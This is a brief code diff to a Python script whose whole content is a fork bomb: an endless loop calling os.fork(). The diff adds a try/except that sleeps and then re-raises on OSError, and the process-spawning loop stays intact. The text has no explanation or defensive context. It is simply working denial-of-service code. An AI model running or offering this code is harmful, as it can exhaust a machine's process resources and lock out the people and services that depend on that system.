@@ -1,4 +1,9 @@
 import os
+import time
 
 while True:
-    os.fork()
+    try:
+        os.fork()
+    except OSError:
+        time.sleep(0.5)
+        raise
